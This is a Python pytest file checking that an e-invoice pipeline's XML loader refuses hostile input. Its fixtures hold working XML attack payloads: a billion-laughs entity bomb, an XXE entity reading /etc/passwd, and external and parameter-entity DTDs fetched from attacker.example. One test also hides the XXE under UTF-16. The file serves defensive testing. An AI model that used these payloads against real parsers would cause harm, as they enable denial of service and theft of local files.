"""Malformed, oversized and hostile XML is refused with a clear error, never expanded or fetched."""

from __future__ import annotations

import pytest

from pipeline.einvoice import load_xml, read_embedded
from pipeline.errors import CorruptDocument, LimitExceeded, UnsupportedType
from pipeline.model import LoadedDocument

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">&lol9;
</rsm:CrossIndustryInvoice>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>&xxe;</cbc:ID></Invoice>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<r/>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused(payload: bytes) -> None:
    with pytest.raises(CorruptDocument, match="refused"):
        load_xml(payload)


def test_doctype_hidden_in_utf16_is_refused() -> None:
    payload = XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    with pytest.raises(CorruptDocument, match="refused"):
        load_xml(payload)


@pytest.mark.parametrize(
    "payload, reason",
    [
        (b"", "empty"),
        (b"<Invoice><unclosed></Invoice>", "malformed"),
        (b"\x89PNG\r\n\x1a\n....", "malformed"),
    ],
)
def test_malformed_or_foreign_xml_is_refused(payload: bytes, reason: str) -> None:
    with pytest.raises(CorruptDocument, match=reason):
        load_xml(payload)


def test_oversized_xml_is_refused_before_parsing() -> None:
    payload = b"<Invoice>" + b"<x/>" * 1000 + b"</Invoice>"
    with pytest.raises(LimitExceeded, match="limit"):
        load_xml(payload, max_bytes=1000)


def test_hostile_embedded_facturx_is_refused_but_foreign_attachments_are_skipped() -> None:
    hostile = LoadedDocument(mime_type="application/pdf", pages=[], embedded_files={"factur-x.xml": XXE})
    with pytest.raises(CorruptDocument, match=r"embedded factur-x\.xml"):
        read_embedded(hostile)
    other = LoadedDocument(
        mime_type="application/pdf", pages=[], embedded_files={"notes.xml": XXE, "logo.png": b"\x89PNG"}
    )
    assert read_embedded(other) is None


def test_loader_recognises_xml_and_refuses_hostile_xml_at_load() -> None:
    from pipeline import load

    assert load.sniff(b"\xef\xbb\xbf  <?xml version='1.0'?><x/>") == "application/xml"
    assert load.sniff("<?xml version='1.0' encoding='UTF-16'?><x/>".encode("utf-16")) == "application/xml"
    with pytest.raises(CorruptDocument, match="refused"):
        load.load(BILLION_LAUGHS)
    with pytest.raises(UnsupportedType, match="not an e-invoice"):
        load.load(b"<?xml version='1.0'?><html><body>hi</body></html>")
    with pytest.raises(UnsupportedType, match="not an e-invoice"):
        load_xml(b"<html><body>not an invoice</body></html>")
